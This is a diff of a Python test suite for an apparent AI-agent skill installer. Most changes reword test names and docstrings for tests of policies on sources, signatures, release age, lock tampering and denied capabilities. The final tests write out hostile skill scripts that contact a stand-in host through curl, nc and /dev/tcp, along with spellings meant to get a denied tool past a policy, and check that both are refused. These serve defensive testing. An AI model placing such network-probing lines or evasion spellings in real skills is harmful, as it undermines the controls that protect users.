@@ -1,4 +1,4 @@
-"""Policies over every command that installs: they only tighten, and each refusal names its line."""
+"""Policies for every command that installs: they only restrict, and each refusal names its line."""
 
 from __future__ import annotations
 
@@ -48,7 +48,7 @@ def _write(path: Path, text: str) -> str:
 
 
 def forbidden(world: World, where: str, act) -> Forbidden:
-    """Assert that ``act`` is refused by this line, with nothing changed."""
+    """Assert that ``act`` is refused by this line and changes nothing."""
     error = refused(world, Forbidden, act)
     assert (error.code, error.exit_code, error.where) == ("policy", 6, where)
     assert "doctor policy" in error.hint
@@ -56,7 +56,7 @@ def forbidden(world: World, where: str, act) -> Forbidden:
 
 
 def repository(world: World, date: str | None = LONG_AGO, rev: str = "a" * 40, **files: object) -> str:
-    """Put a repository at https://git.example/skills, and return the reference to it."""
+    """Put a repository at https://git.example/skills; return the reference to it."""
     url = "https://git.example/skills"
     held = files or {"pdf/SKILL.md": text_of("pdf"), "mail/SKILL.md": text_of("mail")}
     snapshot = Memory(held, rev, date)
@@ -97,7 +97,7 @@ def test_each_line_of_each_file_refuses_a_registrys_skill(world, level, line):
         'capabilities = ["tools"]',
     ],
 )
-def test_what_every_file_permits_is_installed(world, line):
+def test_a_skill_that_every_policy_permits_is_installed(world, line):
     for level in LEVELS:
         level(world, line)
     assert [each.state for each in world.install("github:code-review").skills] == ["enabled"]
@@ -106,24 +106,24 @@ def test_what_every_file_permits_is_installed(world, line):
     assert audit(AuditRequest(), world.ports()).findings == ()
 
 
-def test_a_project_cannot_loosen_what_the_machine_says(world):
+def test_a_project_cannot_loosen_the_policy_of_the_machine(world):
     path = machine(world, "sources = []\n")
     project(world, f"sources = [{ROOT}]\n")
     user(world, f"sources = [{ROOT}]\n")
     forbidden(world, f"{path}:1", lambda: world.install("github:code-review"))
 
 
-def test_nothing_is_asked_of_a_forbidden_source(world):
+def test_a_forbidden_source_gets_no_request(world):
     path = user(world, 'sources = ["https://skills.example/"]')
     for ref in ("github:code-review", "code-review"):
         forbidden(world, f"{path}:1", lambda ref=ref: world.install(ref))
     assert world.opened == []
     place = repository(world)
-    world.places = {}  # to reach it would be a KeyError
+    world.places = {}  # any request would be a KeyError
     forbidden(world, f"{path}:1", lambda: world.install(place, skills=("pdf",)))
 
 
-def test_a_bare_name_is_had_from_the_source_that_is_allowed(world, tmp_path):
+def test_a_bare_name_is_resolved_in_allowed_sources_only(world, tmp_path):
     simulator = Simulator(tmp_path / "registry")
     simulator.publish("code-review")
     world.add_source("acme", simulator)
@@ -133,7 +133,7 @@ def test_a_bare_name_is_had_from_the_source_that_is_allowed(world, tmp_path):
     assert world.opened == ["github"]
 
 
-def test_direct_references_are_held_to_prefixes(world):
+def test_direct_references_must_match_an_allowed_prefix(world):
     place = repository(world)
     user(world, 'sources = ["https://git.example/skills"]')
     world.install(place, skills=("pdf",))
@@ -141,7 +141,7 @@ def test_direct_references_are_held_to_prefixes(world):
     forbidden(world, f"{path}:1", lambda: world.install(place, skills=("mail",)))
 
 
-def test_a_repository_that_sends_one_on_to_another_is_not_enough(world):
+def test_a_marketplace_does_not_allow_another_repository(world):
     url = "https://git.example/skills"
     market = '{"name": "m", "plugins": [{"name": "p", "source": {"source": "url", "url": "https://git.example/evil.git"}}]}'
     hub = Hub(evil=Memory({"skills/pdf/SKILL.md": text_of("pdf")}, "b" * 40))
@@ -165,7 +165,7 @@ def test_local_skills_are_sources_too(world):
     forbidden(world, f"{path}:1", lambda: world.install(beside))
 
 
-def test_a_link_does_not_bring_a_folder_below_an_allowed_one(world):
+def test_a_link_below_an_allowed_folder_does_not_allow_its_target(world):
     ours = world.folder / "ours"
     path = user(world, f'sources = ["file://{ours}"]')
     evil = skill(world.folder / "outside", "evil")
@@ -174,7 +174,7 @@ def test_a_link_does_not_bring_a_folder_below_an_allowed_one(world):
     forbidden(world, f"{path}:1", lambda: world.install(str(ours / "evil")))
 
 
-def test_unsigned_skills_where_signatures_are_required(world):
+def test_unsigned_skills_are_refused_if_signatures_are_required(world):
     folder = str(skill(world.base / "src"))
     for line in ('signed = "required"', 'publishers = ["acme"]'):
         path = user(world, line)
@@ -185,7 +185,7 @@ def test_unsigned_skills_where_signatures_are_required(world):
     assert "unsigned" in answers.kinds_seen
 
 
-def test_findings_over_the_line_refuse_and_an_exception_of_the_same_file_lifts_it(world):
+def test_findings_are_refused_unless_the_same_policy_excepts_the_rule(world):
     folder = str(skill(world.base / "src", body=CRITICAL))
     path = user(world, '\nfail-on = "critical"')
     error = forbidden(world, f"{path}:2", lambda: world.install(folder))
@@ -199,7 +199,7 @@ def test_findings_over_the_line_refuse_and_an_exception_of_the_same_file_lifts_i
     assert any(rule in warning for warning in outcome.warnings)
 
 
-def test_a_critical_finding_that_a_policy_agrees_to_is_not_left_out_of_all(world):
+def test_an_excepted_critical_finding_is_not_left_out_of_all(world):
     place = repository(world, **{"pdf/SKILL.md": text_of("pdf", CRITICAL), "mail/SKILL.md": text_of("mail")})
     left = world.install(place, every=True).left
     assert [(each.name, each.code) for each in left] == [("pdf", "critical-finding")]
@@ -208,7 +208,7 @@ def test_a_critical_finding_that_a_policy_agrees_to_is_not_left_out_of_all(world
     assert world.install(place, every=True).left == ()
 
 
-def test_no_yes_of_a_person_lifts_a_policy(world):
+def test_no_answer_overrides_a_policy(world):
     answers = Answers("yes")
     path = project(world, "signed = 'required'\n")
     folder = str(skill(world.base / "src"))
@@ -216,7 +216,7 @@ def test_no_yes_of_a_person_lifts_a_policy(world):
     assert answers.seen == []
 
 
-def test_one_of_all_that_is_forbidden_is_left_out(world):
+def test_a_forbidden_skill_is_left_out_of_all(world):
     place = repository(
         world,
         **{"pdf/SKILL.md": text_of("pdf"), "pdf/scripts/run.sh*": "#!/bin/sh\n", "mail/SKILL.md": text_of("mail")},
@@ -231,7 +231,7 @@ def test_one_of_all_that_is_forbidden_is_left_out(world):
 
 
 @pytest.mark.parametrize("frozen", [False, True])
-def test_a_lock_is_no_way_around(world, frozen):
+def test_a_lock_does_not_circumvent_a_policy(world, frozen):
     place = repository(world)
     world.install(place, "github:code-review", skills=("pdf",))
     other = world.on_another_machine()
@@ -243,7 +243,7 @@ def test_a_lock_is_no_way_around(world, frozen):
     assert not other.project.records().skills
 
 
-def test_what_the_store_has_already_is_held_to_the_policy_too(world, tmp_path):
+def test_a_stored_skill_is_checked_against_the_policy(world, tmp_path):
     folder = str(skill(world.base / "src", body=CRITICAL))
     user(world, ALLOWED)
     world.install(folder, enable=False)
@@ -252,7 +252,7 @@ def test_what_the_store_has_already_is_held_to_the_policy_too(world, tmp_path):
     forbidden(world, f"{path}:1", world.install)
 
 
-def test_a_lock_that_lies_about_signer_and_capabilities_is_no_way_around(world):
+def test_false_capabilities_in_a_lock_do_not_circumvent_a_policy(world):
     skill(world.base / "src", scripts__run_sh="#!/bin/sh\n")
     world.install(str(world.base / "src" / "plain"))
     lock = world.base / "skillhub.lock"
@@ -262,7 +262,7 @@ def test_a_lock_that_lies_about_signer_and_capabilities_is_no_way_around(world):
     forbidden(other, f"{path}:1", other.install)
 
 
-def test_tampering_is_told_before_any_policy(world):
+def test_tampering_is_reported_before_a_policy(world):
     place = repository(world)
     world.install(place, skills=("pdf",))
     lock = world.base / "skillhub.lock"
@@ -274,7 +274,7 @@ def test_tampering_is_told_before_any_policy(world):
     refused(other, SignerChanged, other.install)
 
 
-def test_sync_puts_nothing_back_that_is_forbidden_and_takes_nothing_away(world):
+def test_sync_restores_no_forbidden_skill_and_removes_none(world):
     world.install("github:code-review")
     path = user(world, "sources = []")
     assert not world.sync().changed
@@ -286,7 +286,7 @@ def test_sync_puts_nothing_back_that_is_forbidden_and_takes_nothing_away(world):
     assert not world.sync().changed
 
 
-def test_update_and_enable_are_held_to_it(world, tmp_path):
+def test_update_and_enable_obey_policies(world, tmp_path):
     simulator = Simulator(tmp_path / "registry")
     simulator.publish("hello", "1.0.0")
     world.add_source("acme", simulator)
@@ -302,7 +302,7 @@ def test_update_and_enable_are_held_to_it(world, tmp_path):
 
 
 def project_keeping(world: World, line: str) -> str:
-    """Add a policy to the project's intent, and return the place of its line."""
+    """Add a policy to the project's intent; return the place of its line."""
     path = world.base / "skillhub.toml"
     text = f"{path.read_text()}\n[policy]\n{line}\n"
     path.write_text(text)
@@ -311,7 +311,7 @@ def project_keeping(world: World, line: str) -> str:
 
 @pytest.fixture
 def aged(world, tmp_path):
-    """A registry with an old release and a young one, on the day of the test: what it signs expires."""
+    """A registry with an old release and a recent one, dated relative to the present since metadata expires."""
     world.now = now()
     simulator = Simulator(tmp_path / "registry", when=world.now - timedelta(days=20))
     simulator.publish("hello", "1.0.0")
@@ -321,7 +321,7 @@ def aged(world, tmp_path):
     return world
 
 
-def test_the_newest_that_is_old_enough_is_chosen(aged):
+def test_the_newest_release_of_sufficient_age_is_chosen(aged):
     user(aged, "min-age-days = 3")
     assert aged.install("acme:hello").skills[0].version == "1.0.0"
     outcome = aged.update()
@@ -331,7 +331,7 @@ def test_the_newest_that_is_old_enough_is_chosen(aged):
     assert [each.version for each in aged.update().skills] == ["1.1.0"]
 
 
-def test_a_young_one_that_is_asked_for_is_refused(aged):
+def test_a_requested_release_that_is_too_young_is_refused(aged):
     path = user(aged, "min-age-days = 3")
     forbidden(aged, f"{path}:1", lambda: aged.install("acme:hello@1.1.0"))
     user(aged, "min-age-days = 0")
@@ -343,7 +343,7 @@ def test_a_young_one_that_is_asked_for_is_refused(aged):
         other.install(frozen=True)
 
 
-def test_a_commit_is_as_old_as_it_says_where_its_repository_is_new(world):
+def test_in_an_unknown_repository_a_commit_has_the_age_of_its_date(world):
     user(world, "min-age-days = 3")
     world.install(repository(world), skills=("pdf",))
     young = f"{NOW - timedelta(days=1):%Y-%m-%dT%H:%M:%SZ}"
@@ -351,7 +351,7 @@ def test_a_commit_is_as_old_as_it_says_where_its_repository_is_new(world):
         world.install(repository(world, young, rev="b" * 40), skills=("mail",))
 
 
-def test_a_backdated_commit_of_a_known_repository_has_to_wait(world):
+def test_a_backdated_commit_of_a_known_repository_is_too_young(world):
     user(world, "min-age-days = 3")
     world.install(repository(world), skills=("pdf",))
     later = Clock(world, timedelta(days=1))
@@ -367,7 +367,7 @@ def test_a_backdated_commit_of_a_known_repository_has_to_wait(world):
 
 
 class Clock(World):
-    """The same machine, some time later."""
+    """The same machine at a later time."""
 
     def __init__(self, world: World, gone: timedelta) -> None:
         super().__init__(world.folder)
@@ -378,13 +378,13 @@ class Clock(World):
 
 
 @pytest.mark.parametrize("date", [None, "yesterday", f"{datetime(2027, 1, 1, tzinfo=UTC):%Y-%m-%dT%H:%M:%SZ}"])
-def test_an_age_that_nobody_knows_or_that_is_to_come_is_refused(world, date):
+def test_an_unknown_or_future_date_is_refused(world, date):
     user(world, "min-age-days = 3")
     with pytest.raises(Forbidden):
         world.install(repository(world, date), skills=("pdf",))
 
 
-def test_a_local_skill_is_as_old_as_it_was_seen(world):
+def test_the_age_of_a_local_skill_is_the_time_since_it_was_first_seen(world):
     user(world, "min-age-days = 3")
     folder = str(skill(world.base / "src"))
     with pytest.raises(Forbidden):
@@ -396,7 +396,7 @@ def test_a_local_skill_is_as_old_as_it_was_seen(world):
         Clock(world, timedelta(days=3)).install(folder)
 
 
-def test_what_is_locked_and_stored_is_as_old_as_its_commit(world):
+def test_the_age_of_a_locked_stored_skill_is_that_of_its_commit(world):
     place = repository(world)
     world.install(place, skills=("pdf",))
     other = world.on_another_machine()
@@ -405,7 +405,7 @@ def test_what_is_locked_and_stored_is_as_old_as_its_commit(world):
     assert other.install(frozen=True).changed
 
 
-def test_agents_that_may_have_none_get_none(world):
+def test_agents_that_a_policy_excludes_get_no_skills(world):
     path = user(world, 'agents = ["codex"]')
     for folder in (".claude", ".codex"):
         (world.base / folder).mkdir()
@@ -415,7 +415,7 @@ def test_agents_that_may_have_none_get_none(world):
     forbidden(world, f"{path}:1", lambda: world.install("github:release-notes", agents=("claude-code",)))
 
 
-def test_audit_tells_of_agents_that_have_skills_and_may_have_none(world):
+def test_audit_reports_skills_of_excluded_agents(world):
     for folder in (".claude", ".codex"):
         (world.base / folder).mkdir()
     world.install("github:code-review")
@@ -425,7 +425,7 @@ def test_audit_tells_of_agents_that_have_skills_and_may_have_none(world):
     assert f"({path}:1)" in found.message
 
 
-def test_one_may_do_without_what_a_team_has_and_ones_own_policy_forbids(world):
+def test_a_user_can_disable_a_team_skill_that_the_own_policy_forbids(world):
     world.install("github:code-review", repository(world), skills=("pdf",))
     other = world.on_another_machine()
     other.store = world.store
@@ -437,23 +437,23 @@ def test_one_may_do_without_what_a_team_has_and_ones_own_policy_forbids(world):
     forbidden(other, f"{path}:1", lambda: other.enable("pdf"))
 
 
-def test_what_a_policy_agrees_to_is_asked_of_nobody(world):
+def test_agree_in_a_policy_answers_its_questions(world):
     user(world, f'agree = ["install"]\nsources = [{ROOT}]')
-    nobody = Answers("unanswered")
-    assert world.install("github:code-review", answers=nobody).skills[0].state == "enabled"
-    assert nobody.seen == []
+    unanswered = Answers("unanswered")
+    assert world.install("github:code-review", answers=unanswered).skills[0].state == "enabled"
+    assert unanswered.seen == []
     folder = str(skill(world.base / "src"))
     machine(world, 'agree = ["unsigned"]')
     with pytest.raises(Forbidden):
         world.install(folder)
     user(world, "")
     with pytest.raises(Refused):
-        world.install(folder, answers=nobody)
+        world.install(folder, answers=unanswered)
     user(world, 'agree = ["install"]')
-    assert world.install(folder, answers=nobody).changed
+    assert world.install(folder, answers=unanswered).changed
 
 
-def test_a_proposed_source_that_is_forbidden_is_not_even_asked_about(world):
+def test_a_forbidden_proposed_source_is_not_asked_about(world):
     text = '[sources.acme]\nurl = "https://evil.example"\nroot = "sha256:' + "1" * 64 + '"\n'
     (world.base / "skillhub.toml").write_text(text)
     path = user(world, f'sources = [{ROOT}, "https://skills.example"]')
@@ -462,7 +462,7 @@ def test_a_proposed_source_that_is_forbidden_is_not_even_asked_about(world):
     assert answers.seen == []
 
 
-def test_adopting_leaves_what_is_forbidden(world):
+def test_adopt_leaves_out_forbidden_skills(world):
     skill(world.base / ".claude" / "skills", "plain")
     user(world, 'signed = "required"')
     outcome = adopt((), "skills", Options(), world.ports())
@@ -470,7 +470,7 @@ def test_adopting_leaves_what_is_forbidden(world):
     assert not (world.base / "skills").exists()
 
 
-def test_importing_another_lock_leaves_what_is_forbidden(world):
+def test_lock_import_leaves_out_forbidden_skills(world):
     place = repository(world)
     user(world, f"sources = [{ROOT}]")
     other = OtherLock("test", (Origin("pdf", place, ("pdf",)),), ())
@@ -478,7 +478,7 @@ def test_importing_another_lock_leaves_what_is_forbidden(world):
     assert [(each.name, each.code) for each in outcome.left] == [("pdf", "policy")]
 
 
-def test_audit_tells_of_all_that_is_forbidden_now(world):
+def test_audit_reports_everything_that_policies_forbid(world):
     folder = str(skill(world.base / "src", body=CRITICAL))
     user(world, ALLOWED)
     world.install("github:code-review", folder, answers=Answers("yes"))
@@ -494,7 +494,7 @@ def test_audit_tells_of_all_that_is_forbidden_now(world):
     assert f"({path}:2)" in found[2].message
 
 
-def test_the_doctor_counts_lines_and_tells_of_a_malformed_one(world):
+def test_doctor_counts_lines_and_reports_a_malformed_policy(world):
     user(world, 'signed = "required"\nmin-age-days = 3\n')
     (check,) = [each for each in diagnose(world.ports()).checks if each.name == "policy"]
     assert (check.ok, check.message.split()[0]) == (True, "2")
@@ -504,7 +504,7 @@ def test_the_doctor_counts_lines_and_tells_of_a_malformed_one(world):
     assert "signed" in check.message
 
 
-def test_a_malformed_one_stops_those_who_ask_it_and_nobody_else(world):
+def test_a_malformed_policy_stops_only_the_commands_that_apply_it(world):
     world.install("github:code-review", "github:release-notes")
     path = user(world, "foo = 1\n")
     assert world.problems() == []
@@ -518,14 +518,14 @@ def test_a_malformed_one_stops_those_who_ask_it_and_nobody_else(world):
         assert path in refused(world, FormatError, act).where
 
 
-def test_a_malformed_one_puts_nothing_back(world):
+def test_with_a_malformed_policy_sync_restores_nothing(world):
     world.install("github:code-review")
     shutil.rmtree(world.copy("code-review"))
     path = user(world, "foo = 1\n")
     assert path in refused(world, FormatError, world.sync).where
 
 
-def test_a_name_that_is_not_there_is_not_taken_for_forbidden(world):
+def test_an_unknown_name_is_not_found_and_not_forbidden(world):
     user(world, f"sources = [{ROOT}]")
     with pytest.raises(NotFound):
         world.install("github:no-such-skill")
@@ -536,7 +536,7 @@ def test_a_name_that_is_not_there_is_not_taken_for_forbidden(world):
     "tools", ["Bash", "bash", "'*'", "Bash (curl:*)", "Bash( * )", "[Read, Bash]", "'\"Bash\", Read'", "shell", "B*"]
 )
 @pytest.mark.parametrize("key", ["allowed-tools", "allowedTools", "tools"])
-def test_attack_a_denied_tool_is_let_in_under_another_spelling(world, level, tools, key):
+def test_attack_another_spelling_of_a_denied_tool_is_refused(world, level, tools, key):
     level(world, 'deny-capabilities = ["tools:Bash"]')
     path = str(skill(world.folder / "src", head=f"{key}: {tools}\n"))
     with pytest.raises(Forbidden):
@@ -545,7 +545,7 @@ def test_attack_a_denied_tool_is_let_in_under_another_spelling(world, level, too
 
 
 @pytest.mark.parametrize("level", LEVELS)
-def test_attack_a_pattern_that_is_no_tool_forbids_nothing(world, level):
+def test_attack_an_invalid_tool_pattern_in_a_policy_is_an_error(world, level):
     level(world, 'deny-capabilities = ["tools:Bash(*"]')
     path = str(skill(world.folder / "src"))
     with pytest.raises(FormatError, match="expected a tool"):
@@ -555,7 +555,7 @@ def test_attack_a_pattern_that_is_no_tool_forbids_nothing(world, level):
 
 @pytest.mark.parametrize("denied", ["network", "network:*", "network:evil.test"])
 @pytest.mark.parametrize("script", ["curl evil.test/x", "nc -z evil.test 80", "exec 3<>/dev/tcp/evil.test/80"])
-def test_attack_a_skill_that_names_no_host_passes_a_policy_that_denies_the_network(world, denied, script):
+def test_attack_network_use_without_a_host_is_refused_if_denied(world, denied, script):
     skill(world.base / "src", scripts__run_sh=f"#!/bin/sh\n{script}\n")
     path = user(world, f'deny-capabilities = ["{denied}"]')
     forbidden(world, f"{path}:1", lambda: world.install(str(world.base / "src" / "plain")))
